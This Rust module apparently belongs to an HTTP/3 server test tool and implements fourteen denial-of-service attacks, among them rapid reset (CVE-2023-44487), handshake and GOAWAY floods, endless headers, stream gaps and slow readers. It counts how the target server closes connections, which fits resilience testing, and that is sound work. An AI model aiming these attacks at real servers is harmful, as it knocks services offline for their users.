//! What can be done to a server of HTTP/3, a strike at a time. An attacker that is shown the door comes
//! back.

use std::collections::{BTreeMap, VecDeque};
use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;

use outrider_http3::client::{RequestHead, control_preface, encode_head};
use outrider_http3::frame::{FrameHead, kind};
use quinn_proto::{Dir, StreamId};

use crate::client::{Client, Closed, Settings, socket};
use crate::packets;

/// Frames of one strike of those that write frames.
const FRAMES: usize = 64;
/// An unknown frame type, of those that are reserved for being ignored (RFC 9114, section 7.2.8).
const UNKNOWN: u64 = 0x21;
/// H3_REQUEST_CANCELLED.
const CANCELLED: u32 = 0x10c;
/// Handshakes that are prepared for a flood of them.
const HELLOS: usize = 2000;
/// Clients that begin a handshake and wait, at a time.
const HALF_OPEN: usize = 400;
/// What a gap leaves unread: bytes of a stream that are never sent.
const GAP_BYTES: usize = 1;

/// What is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Attack {
    /// First packets with random connection IDs that cannot be decrypted. A strike is one.
    Garbage,
    /// First packets that can, from clients that never hear the answer. A strike is one client's.
    Hellos,
    /// Handshakes that never come to their end, of clients that answer a Retry. A strike is a turn of one.
    Handshakes,
    /// Requests that are given up at once, by both sides of their stream (CVE-2023-44487). A strike is one.
    Resets,
    /// Frames of an unknown type on a request's stream. A strike is 64.
    UnknownFrames,
    /// Heads of requests that say they are a gigabyte long. A strike is a kilobyte.
    EndlessHeads,
    /// Heads that are nearly whole, on as many streams as there may be. A strike is one.
    OpenHeads,
    /// A second control stream. A strike is a connection.
    ControlTwice,
    /// SETTINGS a second time. A strike is a connection.
    SettingsTwice,
    /// Unknown frames on the control stream. A strike is 64.
    ControlFrames,
    /// GOAWAY over and over. A strike is 64.
    GoAways,
    /// Another port with every packet. A strike is one.
    Migrations,
    /// Streams whose first byte never comes, a byte in each datagram of 1,200. A strike is one.
    Gaps,
    /// Downloads that are taken a byte at a time, over small windows. A strike is a byte of one of them.
    SlowReaders,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 14] = [
        Self::Garbage,
        Self::Hellos,
        Self::Handshakes,
        Self::Resets,
        Self::UnknownFrames,
        Self::EndlessHeads,
        Self::OpenHeads,
        Self::ControlTwice,
        Self::SettingsTwice,
        Self::ControlFrames,
        Self::GoAways,
        Self::Migrations,
        Self::Gaps,
        Self::SlowReaders,
    ];

    /// Its name on a command line.
    pub fn key(self) -> &'static str {
        match self {
            Self::Garbage => "garbage",
            Self::Hellos => "hellos",
            Self::Handshakes => "handshakes",
            Self::Resets => "resets",
            Self::UnknownFrames => "unknown-frames",
            Self::EndlessHeads => "endless-heads",
            Self::OpenHeads => "open-heads",
            Self::ControlTwice => "control-twice",
            Self::SettingsTwice => "settings-twice",
            Self::ControlFrames => "control-frames",
            Self::GoAways => "go-aways",
            Self::Migrations => "migrations",
            Self::Gaps => "gaps",
            Self::SlowReaders => "slow-readers",
        }
    }

    /// Its name in tables.
    pub fn name(self) -> &'static str {
        match self {
            Self::Garbage => "first packets of garbage",
            Self::Hellos => "first packets, never gone on with",
            Self::Handshakes => "handshakes that never finish",
            Self::Resets => "rapid resets",
            Self::UnknownFrames => "unknown frames",
            Self::EndlessHeads => "endless heads",
            Self::OpenHeads => "heads never whole",
            Self::ControlTwice => "two control streams",
            Self::SettingsTwice => "SETTINGS twice",
            Self::ControlFrames => "frames on the control stream",
            Self::GoAways => "GOAWAY flood",
            Self::Migrations => "migration storm",
            Self::Gaps => "streams with gaps",
            Self::SlowReaders => "slow readers",
        }
    }

    fn settings(self) -> Settings {
        match self {
            Self::Handshakes => Settings { hears_retry_only: true, ..Settings::default() },
            Self::Gaps => Settings { padded: true, sends_once: true, ..Settings::default() },
            Self::SlowReaders => Settings { window_bytes: 32 << 10, ..Settings::default() },
            _ => Settings::default(),
        }
    }
}

/// Who is attacked, and with what.
#[derive(Clone, Debug)]
pub struct Target {
    /// The server.
    pub server: SocketAddr,
    /// How its certificate is judged.
    pub tls: Arc<rustls::ClientConfig>,
    /// The path of something large that it has.
    pub path: String,
    /// Slow readers at a time.
    pub readers: usize,
}

/// One client that does one thing.
#[derive(Debug)]
pub struct Attacker {
    attack: Attack,
    target: Target,
    socket: UdpSocket,
    random: fastrand::Rng,
    hellos: VecDeque<Vec<Vec<u8>>>,
    clients: VecDeque<Session>,
    /// Strikes that were made.
    pub strikes: u64,
    /// Connections that were begun.
    pub connections: u64,
    /// How connections were ended by the server, and how often.
    pub closed: BTreeMap<Closed, u64>,
}

#[derive(Debug)]
struct Session {
    client: Client,
    begun: bool,
    stream: Option<StreamId>,
    streams: Vec<StreamId>,
    next: usize,
}

impl Attacker {
    /// Prepares an attack. That may take a moment.
    ///
    /// # Errors
    /// The socket's, or what is wrong with the TLS.
    pub fn new(attack: Attack, target: Target) -> io::Result<Self> {
        let mut hellos = VecDeque::new();
        if attack == Attack::Hellos {
            for _ in 0..HELLOS {
                hellos.push_back(packets::hello(target.server, &target.tls)?);
            }
        }
        Ok(Self {
            attack,
            socket: socket(target.server)?,
            target,
            random: fastrand::Rng::new(),
            hellos,
            clients: VecDeque::new(),
            strikes: 0,
            connections: 0,
            closed: BTreeMap::new(),
        })
    }

    /// How many clients it has at a time.
    fn clients_max(&self) -> usize {
        match self.attack {
            Attack::Handshakes => HALF_OPEN,
            Attack::SlowReaders => self.target.readers,
            _ => 1,
        }
    }

    /// Connections that it has, handshakes included.
    pub fn open(&self) -> usize {
        self.clients.len()
    }

    /// Ends its connections, as far as that can be said to the server.
    pub fn leave(&mut self) {
        while let Some(mut session) = self.clients.pop_front() {
            session.client.close();
        }
    }

    /// Strikes once, or goes on with a handshake that it needs for that.
    ///
    /// # Errors
    /// The socket's.
    pub fn strike(&mut self) -> io::Result<()> {
        match self.attack {
            Attack::Garbage => {
                let datagram = packets::garbage(&mut self.random);
                // What the socket does not take is lost, as on a network.
                let _ = self.socket.send(&datagram);
                self.strikes += 1;
                Ok(())
            }
            Attack::Hellos => {
                if let Some(hello) = self.hellos.pop_front() {
                    for datagram in &hello {
                        let _ = self.socket.send(datagram);
                    }
                    self.hellos.push_back(hello);
                    self.strikes += 1;
                }
                Ok(())
            }
            _ => self.strike_connected(),
        }
    }

    fn strike_connected(&mut self) -> io::Result<()> {
        if self.clients.len() < self.clients_max() {
            let client =
                Client::begin(self.target.server, &self.target.tls, self.attack.settings())?;
            self.connections += 1;
            self.clients.push_back(Session {
                client,
                begun: false,
                stream: None,
                streams: Vec::new(),
                next: 0,
            });
        }
        let Some(mut session) = self.clients.pop_front() else { return Ok(()) };
        session.client.turn();
        if let Some(closed) = session.client.closed() {
            *self.closed.entry(closed.clone()).or_default() += 1;
            return Ok(());
        }
        if session.client.is_connected() {
            self.strikes += 1;
            session.strike(self.attack, &self.target)?;
        } else if self.attack == Attack::Handshakes {
            self.strikes += 1;
            session.next += 1;
            if session.next > 8 {
                // It has said what it had to say: another one takes its place.
                return Ok(());
            }
        }
        self.clients.push_back(session);
        Ok(())
    }
}

impl Session {
    fn strike(&mut self, attack: Attack, target: &Target) -> io::Result<()> {
        let first = !std::mem::replace(&mut self.begun, true);
        if first {
            // The control stream, which some go on with.
            self.stream = self.client.open_uni(&control_preface());
        }
        match attack {
            Attack::Garbage | Attack::Hellos | Attack::Handshakes => {}
            Attack::Resets => {
                if let Some(stream) = self.client.open(Dir::Bi) {
                    self.client.write(stream, &get(&target.path));
                    self.client.flush();
                    self.client.give_up(stream, CANCELLED);
                }
            }
            Attack::UnknownFrames => {
                if first {
                    self.stream = self.client.open(Dir::Bi);
                }
                self.frames(UNKNOWN, &[]);
            }
            Attack::EndlessHeads => {
                if first || self.stream.is_none_or(|stream| self.client.is_stopped(stream)) {
                    self.stream = self.client.open(Dir::Bi);
                    let mut bytes = Vec::new();
                    FrameHead { kind: kind::HEADERS, len: 1 << 30 }.put(&mut bytes);
                    self.write(&bytes);
                }
                self.write(&[0; 1000]);
            }
            Attack::OpenHeads => {
                if let Some(stream) = self.client.open(Dir::Bi) {
                    let mut bytes = Vec::new();
                    FrameHead { kind: kind::HEADERS, len: 30_000 }.put(&mut bytes);
                    bytes.resize(29_000, 0);
                    self.client.write(stream, &bytes);
                }
            }
            Attack::ControlTwice => {
                self.client.open_uni(&control_preface());
            }
            Attack::SettingsTwice => self.frames(kind::SETTINGS, &[]),
            Attack::ControlFrames => self.frames(UNKNOWN, &[]),
            Attack::GoAways => self.frames(kind::GOAWAY, &[0]),
            Attack::Migrations => {
                self.client.rebind()?;
                self.client.ping();
            }
            Attack::Gaps => self.leave_gaps(),
            Attack::SlowReaders => {
                if first {
                    self.stream = self.client.open(Dir::Bi);
                    self.write(&get(&target.path));
                    self.stream.into_iter().for_each(|stream| self.client.finish(stream));
                } else if let Some(stream) = self.stream {
                    self.client.read(stream, 1);
                }
            }
        }
        self.client.flush();
        Ok(())
    }

    fn write(&mut self, bytes: &[u8]) {
        if let Some(stream) = self.stream {
            self.client.write(stream, bytes);
        }
    }

    fn frames(&mut self, kind: u64, payload: &[u8]) {
        let mut bytes = Vec::new();
        for _ in 0..FRAMES {
            FrameHead { kind, len: payload.len() as u64 }.put(&mut bytes);
            bytes.extend_from_slice(payload);
        }
        self.write(&bytes);
    }

    /// Opens what streams there are, loses the first byte of each, and goes on with the second.
    fn leave_gaps(&mut self) {
        self.client.lose(true);
        for dir in [Dir::Uni, Dir::Bi] {
            while let Some(stream) = self.client.open(dir) {
                self.client.write(stream, &[0; GAP_BYTES]);
                self.streams.push(stream);
            }
        }
        self.client.flush();
        self.client.lose(false);
        if !self.streams.is_empty() {
            self.next = (self.next + 1) % self.streams.len();
            self.client.write(self.streams[self.next], &[0]);
        }
    }
}

fn get(path: &str) -> bytes::Bytes {
    encode_head(&RequestHead::get("localhost", path))
}
